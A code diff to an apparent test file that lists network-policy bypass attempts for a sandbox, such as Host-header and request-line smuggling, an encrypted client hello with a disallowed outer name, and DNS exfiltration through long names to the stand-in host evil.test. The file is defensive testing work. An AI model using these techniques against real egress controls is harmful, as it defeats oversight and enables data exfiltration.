@@ -1,5 +1,6 @@
 /** Ways around a network policy. Each is shown to fail under `policy` and to work under `control`: the way itself is real. */
 import type { NetworkPolicy } from '../../../src/engines/engine.ts';
+import { TEST_RANGE } from './test-range.ts';
 
 export interface Attempt {
   readonly title: string;
@@ -16,7 +17,7 @@ export const ALL: NetworkPolicy = { mode: 'allow-all' };
 export const NONE: NetworkPolicy = { mode: 'deny-all' };
 const GOOD_ONLY = custom({ allow: ['good.test'] });
 const BOTH = custom({ allow: ['good.test', 'evil.test', '*.evil.test'] });
-const RANGE = custom({ allow: ['good.test'], subnets: { allow: ['198.18.0.0/15'] } });
+const RANGE = custom({ allow: ['good.test'], subnets: { allow: [TEST_RANGE] } });
 const EVIL_HTTP = /^http evil /;
 const EVIL_HOST = /^http \w+ evil\.test/;
 
@@ -123,7 +124,7 @@ export const ATTEMPTS: readonly Attempt[] = [
     RANGE,
   ),
   attempt('no Host at all', `tell(GOOD, 80, b'GET /nohost HTTP/1.0\\r\\n\\r\\n')`, /nohost/, RANGE),
-  attempt('an address for a Host', `tell(GOOD, 80, get(EVIL.encode()))`, /^http \w+ 198\.18/, RANGE),
+  attempt('an address for a Host', `tell(GOOD, 80, get(EVIL.encode()))`, /^http \w+ 203\.0\.113/, RANGE),
   attempt(
     'empty lines before the request',
     `tell(GOOD, 80, b'\\r\\n\\r\\n' + get(b'evil.test'))`,
@@ -184,7 +185,27 @@ export const ATTEMPTS: readonly Attempt[] = [
     /^raw good \W/,
     RANGE,
   ),
-  attempt('an encrypted client hello', `tell(GOOD, 7777, ech(hello('good.test')))`, /^raw good \W/, RANGE),
+  attempt(
+    'an encrypted client hello whose outer name is not allowed',
+    `tell(GOOD, 7777, ech(hello('evil.test')))`,
+    /^raw good \W/,
+    RANGE,
+  ),
+  ...[
+    ['two blanks', 'GET  / HTTP/1.1'],
+    ['a tab', 'GET\\t/ HTTP/1.1'],
+    ['a leading blank', ' GET / HTTP/1.1'],
+    ['a version in lower case', 'GET / http/1.1'],
+    ['no version', 'GET /'],
+    ['a blank that only some servers know', 'GET\\x1c/ HTTP/1.1'],
+  ].map(([title, line]) =>
+    attempt(
+      `a request line with ${title}`,
+      `tell(GOOD, 7777, b'${line}\\r\\nHost: evil.test\\r\\n\\r\\n')`,
+      /^raw good /,
+      RANGE,
+    ),
+  ),
   attempt('a name server of its own', `ask('a1.evil.test', EVIL)`, /^dns a1\.evil/),
   attempt('a name server of its own over TCP', `ask('a2.evil.test', EVIL, over_tcp=True)`, /^dns a2\.evil/),
   attempt('data in long names', `ask('.'.join(['d' * 60] * 3) + '.evil.test')`, /^dns d{60}/),
@@ -209,13 +230,13 @@ export const ATTEMPTS: readonly Attempt[] = [
     `curl('http://evil.test/')`,
     EVIL_HTTP,
     BOTH,
-    custom({ allow: ['evil.test'], subnets: { deny: ['198.18.0.0/15'] } }),
+    custom({ allow: ['evil.test'], subnets: { deny: [TEST_RANGE] } }),
   ),
   attempt(
     'an allowed subnet in a denied one',
     `tell(EVIL, 7777, b'x')`,
     /^tcp evil/,
     RANGE,
-    custom({ subnets: { allow: ['198.18.0.0/15'], deny: ['198.18.0.0/16'] } }),
+    custom({ subnets: { allow: ['203.0.113.0/24'], deny: ['203.0.112.0/23'] } }),
   ),
 ];
